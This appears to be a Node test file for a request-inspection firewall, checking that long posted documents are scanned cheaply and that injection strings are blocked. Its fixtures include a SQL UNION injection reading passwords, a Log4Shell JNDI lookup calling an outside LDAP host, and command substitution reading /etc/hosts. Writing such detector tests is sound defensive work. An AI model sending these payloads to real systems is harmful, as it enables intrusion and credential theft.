import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { beginInspection, type InspectOptions } from '../src/inspect.ts'
import type { Inspection } from '../src/rule/match.ts'

const BYTES = 65_536
/** Every rule about what people quote has something to look at in it. */
const PAGE = `<p align="center"><a href="https://example.org/wiki/etc/passwd?a=1&amp;b=2"><img src="/logo.svg"
 alt="select one of | the 'two' (or 3) -- files" width="100px;"/></a> <code>curl $(cat /etc/hosts); echo
 "done" && exec(cmd)</code> <b title="x=1">{{ name }} or 'a'='a'</b></p>
`
const QUOTED = "' UNION SELECT password FROM users WHERE 1=1 -- "
/** What refuses a document too. */
const LOOKED_UP = '${jndi:ldap://203.0.113.9/a}'

function repeated(text: string, bytes: number = BYTES): string {
  return text.repeat(Math.ceil(bytes / text.length)).slice(0, bytes)
}

function posted(value: unknown, options?: InspectOptions): Inspection {
  const body = Buffer.from(typeof value === 'string' ? value : JSON.stringify(value))
  const type = typeof value === 'string' ? 'text/plain' : 'application/json'
  return beginInspection(
    { method: 'POST', target: '/pages', headers: ['content-type', type], body },
    options,
  ).finish()
}

function spent(value: unknown): number {
  const body = Buffer.from(JSON.stringify(value))
  const ongoing = beginInspection({
    method: 'POST',
    target: '/pages',
    headers: ['content-type', 'application/json'],
    body,
  })
  ongoing.finish()
  return ongoing.spent
}

describe('documents that quote much', () => {
  const page = repeated(PAGE)

  test('cost little more where they are long: what cannot count is not looked for all the way', () => {
    const short = spent({ about: page.slice(0, BYTES / 4) })
    const long = spent({ about: page })
    assert.ok(long < short * 3, `${short} units for a quarter, ${long} for all`)
  })

  test('what a short document quotes is reported, and passes', () => {
    const { verdict, matches } = posted({ about: `${repeated(PAGE, 2_000)}\n${QUOTED}` })
    assert.equal(verdict, 'pass')
    assert.ok(matches.some(({ isDoubted }) => isDoubted === true))
  })

  test('what acts wherever it stands is refused, however much is before it', () => {
    for (const body of [{ about: `${page}\n${LOOKED_UP}` }, [page, page, LOOKED_UP], `${page}\n${LOOKED_UP}`])
      assert.equal(posted(body).verdict, 'block')
  })

  test('a value that is not a document is read whole, however much is before it', () => {
    for (const body of [
      { about: page, name: QUOTED },
      [page, page, page, QUOTED],
      { about: page, more: page.replaceAll('a', 'e'), note: { id: `1${QUOTED}` } },
    ])
      assert.equal(posted(body).verdict, 'block')
  })

  test('a text that was read as a document counts where it stands as none', () => {
    const text = `${QUOTED}\n${'one line\n'.repeat(40)}`
    assert.equal(posted({ id: text }).verdict, 'block')
    // Each distinct text of a request is looked at once, from the seventeenth on.
    const many = Array.from({ length: 40 }, (_, index) => `'word' ${index}`)
    assert.equal(posted({ about: page, many, 'init.sh': QUOTED, id: QUOTED }).verdict, 'block')
  })

  test('a level that gives no benefit of the doubt refuses what is quoted behind much else', () => {
    const { verdict, matches } = posted(
      { about: `${repeated('plain words only, ')}\n${QUOTED}` },
      { level: 2 },
    )
    assert.equal(verdict, 'block')
    assert.ok(matches.some(({ family }) => family === 'sqli'))
    const long = posted(
      { about: `${repeated('one (or two) "words" -- and more\n', 900_000)}${QUOTED}` },
      { level: 2 },
    )
    assert.equal(long.verdict, 'block')
    assert.ok(long.matches.some(({ rule }) => rule.startsWith('sqli/union')))
  })
})
